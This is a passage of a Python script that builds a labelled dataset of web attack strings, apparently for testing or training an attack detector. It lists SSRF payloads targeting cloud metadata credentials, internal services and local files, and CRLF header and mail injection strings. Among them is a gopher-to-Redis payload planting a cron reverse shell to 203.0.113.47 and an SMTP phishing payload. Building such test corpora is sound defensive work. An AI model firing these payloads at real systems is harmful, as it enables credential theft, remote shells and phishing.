    tech, p = pick(CODE)
    enc = pick(["urlenc", "urlenc", "urlenc2", "ctx", "ctx"])
    if enc == "ctx":
        for k, ctxs in CODE_CTX.items():
            if tech.startswith(k):
                return "code-" + tech, pick(ctxs) + p
        enc = "urlenc"
    if enc == "urlenc":
        return "code-" + tech + "+urlenc", urlenc(p)
    return "code-" + tech + "+double-urlenc", urlenc2(p)


# ------------------------------------------------------------------------ SSRF / CRLF
SSRF = [
    ("ssrf-metadata-aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf-metadata-aws", "http://169.254.169.254/latest/user-data"),
    ("ssrf-metadata-aws+ipv6", "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/"),
    ("ssrf-metadata-aws+decimal-ip", "http://2852039166/latest/meta-data/iam/security-credentials/"),
    ("ssrf-metadata-aws+hex-ip", "http://0xa9fea9fe/latest/api/token"),
    ("ssrf-metadata-aws+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("ssrf-metadata-aws+userinfo", "http://analytics.example.com@169.254.169.254/latest/meta-data/"),
    ("ssrf-metadata-aws+dns-rebind", "http://169.254.169.254.nip.io/latest/meta-data/iam/info"),
    ("ssrf-metadata-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("ssrf-metadata-gcp", "http://metadata/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json"),
    ("ssrf-metadata-azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("ssrf-metadata-alibaba", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("ssrf-metadata-ecs", "http://169.254.170.2/v2/credentials/"),
    ("ssrf-loopback", "http://127.0.0.1:8080/admin/api/v1/connections"),
    ("ssrf-loopback+short", "http://127.1:8500/v1/kv/?recurse"),
    ("ssrf-loopback+decimal-ip", "http://2130706433:6379/"),
    ("ssrf-loopback+hex-ip", "http://0x7f000001:9200/_cat/indices"),
    ("ssrf-loopback+zero", "http://0.0.0.0:8793/log/"),
    ("ssrf-loopback+ipv6", "http://[::1]:10255/pods"),
    ("ssrf-loopback+ipv4-mapped", "http://[::ffff:127.0.0.1]:8080/api/v1/pools"),
    ("ssrf-loopback+enclosed-alnum", "http://①②⑦.⓪.⓪.①:9200/_all/_search"),
    ("ssrf-localhost", "http://localhost:2375/containers/json"),
    ("ssrf-localhost+fragment", "https://localhost:8443/actuator/env#@hooks.slack.com"),
    ("ssrf-internal-k8s", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("ssrf-internal-kubelet", "https://10.0.0.1:10250/run/data/etl-runner/etl?cmd=id"),
    ("ssrf-internal-airflow", "http://airflow-webserver.data.svc.cluster.local:8080/api/v1/connections"),
    ("ssrf-internal-vault", "http://vault.internal:8200/v1/secret/data/warehouse"),
    ("ssrf-internal-consul", "http://consul.service.consul:8500/v1/agent/self"),
    ("ssrf-file", "file:///etc/passwd"),
    ("ssrf-file", "file:///proc/self/environ"),
    ("ssrf-gopher-redis", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2464%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.47%2F4444%200%3E%261%0A%0A%0D%0A%2A4%0D%0A%246%0D%0Aconfig%0D%0A%243%0D%0Aset%0D%0A%243%0D%0Adir%0D%0A%2416%0D%0A%2Fvar%2Fspool%2Fcron%0D%0A%2A1%0D%0A%244%0D%0Asave%0D%0A"),
    ("ssrf-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cbilling%40dataplatform.example%3E%0D%0ARCPT%20TO%3A%3Cvictim%40example.com%3E%0D%0ADATA%0D%0ASubject%3A%20Invoice%0D%0A%0D%0APay%20here%3A%20https%3A%2F%2Fattacker.example%0D%0A.%0D%0AQUIT%0D%0A"),
    ("ssrf-dict", "dict://127.0.0.1:11211/stats"),
    ("ssrf-jdbc-loopback", "postgresql://postgres@127.0.0.1:5432/postgres?sslmode=disable"),
    ("ssrf-redirect", "https://" + ATK + "/302?to=http://169.254.169.254/latest/meta-data/"),
]
CRLF = [
    ("crlf-content-disposition", "report.csv\r\nContent-Type: text/html\r\n\r\n<script>alert(document.cookie)</script>"),
    ("crlf-set-cookie", "export.xlsx\r\nSet-Cookie: session=attacker-fixed-session; Path=/; HttpOnly"),
    ("crlf-set-cookie+urlenc", "en-US%0d%0aSet-Cookie:%20dp_session=fixated123;%20Domain=.dataplatform.example"),
    ("crlf-location+urlenc", "dashboards%0d%0aLocation:%20https://" + ATK + "/login"),
    ("crlf-header-injection", "Bearer x\r\nHost: internal-admin.data.svc.cluster.local"),
    ("crlf-header-injection", "application/json\r\nX-Forwarded-For: 127.0.0.1\r\nX-Original-URL: /admin"),
    ("crlf-response-splitting", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>Session expired</h1><form action=https://" + ATK + "/>"),
    ("crlf-request-smuggling", "x\r\nContent-Length: 0\r\n\r\nGET /api/v1/admin/users HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    ("crlf-x-accel-redirect", "report.pdf\r\nX-Accel-Redirect: /internal/secrets/warehouse.json"),
    ("crlf-mail-header", "ana@example.com\r\nBcc: harvest@" + ATK),
    ("crlf-mail-header", "Weekly KPIs\r\nBcc: leak@" + ATK + "\r\nContent-Type: text/html"),
    ("crlf-smtp", "ops@example.com>\r\nRCPT TO:<leak@" + ATK + ">\r\nDATA\r\nSubject: reset\r\n\r\nclick https://" + ATK + "\r\n.\r\n"),
    ("crlf-log-forging", "ok\n2025-03-14T04:00:00Z INFO audit user=admin action=grant_role role=owner target=mallory status=success"),
    ("crlf-redis", "session:1\r\nCONFIG SET dir /var/spool/cron\r\nCONFIG SET dbfilename root\r\nSAVE"),
    ("crlf-utf8-cjk-newline", "dashboard嘊嘍Set-Cookie: dp_session=attacker"),
    ("crlf-header-injection+double-urlenc", "text%250d%250aX-Forwarded-Host:%2520" + ATK),
]


def gen_ssrf(i):
    lits = SSRF + CRLF
    if i < len(lits):
        tech, p = lits[i]
        return "ssrf-crlf-" + tech, p
    if rng.random() < 0.55:
        tech, p = pick(SSRF)
        enc = pick(["json", "webhook", "urlenc", "jdbc-host"])
        if enc == "json":
            return "ssrf-crlf-" + tech, json.dumps({"type": "webhook", "url": p, "method": "GET"})
        if enc == "webhook":
            return "ssrf-crlf-" + tech, p + ("&" if "?" in p else "?") + "source=dataplatform&event=pipeline.failed"
        if enc == "urlenc":
            return "ssrf-crlf-" + tech + "+urlenc", urlenc(p)
        m = re.match(r"https?://([^/]+)", p)
        if m and "@" not in m.group(1) and "#" not in p:
            host = m.group(1).split(":")[0] if not m.group(1).startswith("[") else m.group(1).split("]")[0] + "]"
            return "ssrf-crlf-" + tech + "+jdbc", f"jdbc:postgresql://{host}:{pick([5432, 80, 6379, 8080])}/postgres?socketFactory=org.postgresql.ssl.NonValidatingFactory"
        return "ssrf-crlf-" + tech + "+urlenc", urlenc(p)
    tech, p = pick(CRLF)
    enc = pick(["urlenc", "urlenc", "lf-only", "urlenc2"])
    if "\r\n" not in p and "\n" not in p:
        return "ssrf-crlf-" + tech, pick(["Q1 ", "orders_", "ana+"]) + p
    if enc == "urlenc":
        return "ssrf-crlf-" + tech + "+urlenc", p.replace("\r", "%0d").replace("\n", "%0a").replace(" ", "%20")
    if enc == "urlenc2":
        return "ssrf-crlf-" + tech + "+double-urlenc", p.replace("\r", "%250d").replace("\n", "%250a")
    return "ssrf-crlf-" + tech + "+lf-only", p.replace("\r\n", "\n")


CATS = [("sqli", gen_sqli), ("xss", gen_xss), ("cmdi", gen_cmdi),
        ("traversal", gen_trav), ("code", gen_code), ("ssrf-crlf", gen_ssrf)]


def main():
    seen = set()
    rows = []
    for cat, gen in CATS:
        n = 0
        i = 0
        while n < PER_CAT and i < 20000:
            cls, v = gen(i)
            i += 1
            if v in seen or len(v) >= MAXLEN:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            n += 1
    out = os.path.join(HERE, "attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for k, (cat, cls, v) in enumerate(rows, 1):
            fh.write(json.dumps({"id": f"ha18-{k:05d}", "category": cat, "class": cls,
                                 "label": "attack", "value": v}, ensure_ascii=False) + "\n")
    counts = Counter(c for c, _, _ in rows)
    for cat, _ in CATS:
        print(f"{cat:10s} {counts[cat]}")
    print(f"{'total':10s} {len(rows)}")


if __name__ == "__main__":
    main()
